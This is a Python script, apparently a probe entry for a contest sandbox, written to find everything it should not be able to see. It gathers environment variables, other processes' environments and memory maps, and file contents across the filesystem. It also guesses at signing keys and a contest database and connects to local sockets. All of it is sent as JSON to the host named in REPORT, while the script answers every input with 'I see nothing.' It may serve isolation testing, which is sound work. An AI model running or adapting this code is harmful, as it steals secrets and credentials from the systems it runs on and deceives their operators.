"""An entry that looks for everything it should not know, in every way its author could think of, and tells all of it.

It connects to the address in REPORT and sends one JSON object: from each way of looking to what was found there, as texts.
"""

import glob
import json
import os
import socket
import stat
import sys

SYSTEM = ("/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/etc", "/proc", "/sys", "/dev/pts", "/nix")
FOUND = {}


def tell(way, what):
    FOUND.setdefault(way, []).append(what if isinstance(what, str) else repr(what))


def attempt(way, look):
    try:
        found = look()
        if found is not None:
            tell(way, found)
    except Exception as error:
        # What the system refuses is what it should refuse.
        tell("refused " + way, type(error).__name__)


def head(path, most=65536):
    # What is looked for stands in this file too.
    if os.path.realpath(path) == os.path.realpath(__file__):
        return None
    with open(path, "rb") as file:
        return file.read(most).decode("utf-8", "replace").replace("\0", " ")


def walk(top, way, depth):
    """Names, times and contents of everything below a folder but the system and the interpreter, the nearest first: so many
    names and bytes, not so many seconds, so that a busy machine hides nothing."""
    names_left, bytes_left = 4000, 1 << 24
    folders = [(top, depth)]
    while folders and names_left > 0 and bytes_left > 0:
        folder, depth = folders.pop(0)
        if depth == 0 or folder.startswith(SYSTEM + ("/root/.pyenv", sys.base_prefix)):
            continue
        try:
            names = sorted(os.listdir(folder))
        except OSError as error:
            tell("refused " + way, type(error).__name__)
            continue
        for name in names[:2000]:
            path = os.path.join(folder, name)
            names_left -= 1
            tell(way + " names", path)
            try:
                what = os.lstat(path)
            except OSError:
                continue
            tell(way + " times", "%s %d" % (path, what.st_mtime))
            if stat.S_ISDIR(what.st_mode):
                folders.append((path, depth - 1))
            elif stat.S_ISREG(what.st_mode) and bytes_left > 0:
                bytes_left -= min(what.st_size, 65536)
                attempt(way + " contents", lambda: head(path))


def own():
    tell("arguments", sys.argv)
    tell("folder", os.getcwd())
    tell("host name", socket.gethostname())
    tell("home", os.path.expanduser("~"))
    for name, value in os.environ.items():
        if name != "REPORT":
            tell("environment", name + "=" + value)


def processes():
    for number in [int(name) for name in os.listdir("/proc") if name.isdigit()] + [os.getppid(), 1]:
        for file in ("cmdline", "environ", "comm", "cgroup", "mountinfo", "mounts", "maps"):
            attempt("process " + file, lambda: head("/proc/%d/%s" % (number, file)))
        for link in ("cwd", "exe", "root"):
            attempt("process " + link, lambda: os.readlink("/proc/%d/%s" % (number, link)))
            if link != "exe":
                attempt("process folder", lambda: " ".join(os.listdir("/proc/%d/%s/" % (number, link))))
        for fd in glob.glob("/proc/%d/fd/*" % number):
            attempt("process files", lambda: os.readlink(fd))
        if number not in (os.getpid(), 0):
            attempt("signal", lambda: os.kill(number, 0) or str(number))


def files():
    walk("/", "files", 7)
    for guess in (".", "..", "../..", "../../..", os.environ.get("OLDPWD", ".."), "/tmp", "/var/tmp", "/dev/shm", "/run"):
        walk(os.path.realpath(guess), "guessed", 4)
    for guess in ("contest.toml", "../contest.toml", "data/signing-key", "../data/signing-key", "data/store.db"):
        attempt("guessed contents", lambda: head(guess))


def sockets():
    for line in head("/proc/net/unix", 1 << 20).splitlines()[1:]:
        name = line.split()[7] if len(line.split()) > 7 else ""
        if "viva" in name or "secret" in name:
            tell("socket names", name)
        address = "\0" + name[1:] if name.startswith("@") else name
        if address:
            with socket.socket(socket.AF_UNIX) as peer:
                peer.settimeout(1)
                attempt("socket", lambda: peer.connect(address) or name)


def notices():
    """Asks to be told of changes in folders that are not its own."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init1(os.O_NONBLOCK)
    for path in ("/srv", "/var/lib", "/var/log"):
        if libc.inotify_add_watch(watch, path.encode(), 0xFFF) >= 0:
            tell("notices", path)


for look in (own, processes, files, sockets, notices):
    attempt(look.__name__, look)

host, port = os.environ["REPORT"].split(":")
try:
    with socket.create_connection((host, int(port)), timeout=10) as desk:
        desk.sendall(json.dumps(FOUND).encode())
except OSError as error:
    print("no desk:", error, file=sys.stderr)
for line in sys.stdin:
    print("I see nothing.", flush=True)
